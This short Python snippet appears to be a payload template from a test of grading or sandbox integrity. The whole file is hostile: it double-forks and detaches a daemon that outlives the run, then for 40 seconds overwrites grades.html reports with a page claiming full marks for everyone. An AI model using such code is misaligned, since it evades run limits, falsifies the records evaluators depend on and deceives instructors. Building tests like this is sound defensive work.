# A daemon that outlives the run and then replaces the instructor's report with a page of its own.
import os as _os
import time as _time

if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        _until = _time.monotonic() + 40
        while _time.monotonic() < _until:
            for _path in ("{CANARY}/grades.html", "{CANARY}/report/grades.html"):
                try:
                    open(_path, "w").write("<h1>{MARKER}: 100/100 for everyone</h1>")
                except OSError:
                    pass
            _time.sleep(0.5)
    _os._exit(0)
